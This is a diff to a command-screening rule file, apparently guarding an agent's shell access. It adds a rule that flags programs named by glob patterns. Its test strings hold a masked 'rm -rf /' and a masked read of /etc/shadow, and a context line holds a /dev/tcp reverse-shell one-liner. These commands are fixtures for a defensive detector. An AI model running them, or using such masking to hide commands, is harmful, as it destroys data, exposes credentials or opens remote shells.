@@ -61,6 +61,25 @@ export const rules = [
     evasions: ["exec 5<>/dev/tcp/192.0.2.1/4444; cat <&5 | while read l; do $l 2>&5 >&5; done"],
   }),
   commandRule({
+    id: "masked-program",
+    decision: "ask",
+    when: ({ name }) =>
+      name?.glob === true &&
+      name.text.startsWith("/") &&
+      (/[?[]/.test(name.text) || /^\/(?:usr\/(?:local\/)?)?s?bin\//.test(name.text)),
+    why: "names a program by a pattern, which hides what would run",
+    instead: "write the program's name out: `/bin/ls -l`",
+    attack: ["T1027.010"],
+    asi: ["ASI02"],
+    matches: ["/bin/r? -rf /", "/???/??t /etc/shadow", "/usr/bin/c[u]rl https://example.com"],
+    nonMatches: [
+      "/bin/ls -l",
+      "./build/*/unit-tests --fast",
+      "/usr/lib/jvm/*/bin/java -version",
+      "ls /bin/r?",
+    ],
+  }),
+  commandRule({
     id: "unknown-program",
     uncertain: "scripts",
     decision: "ask",
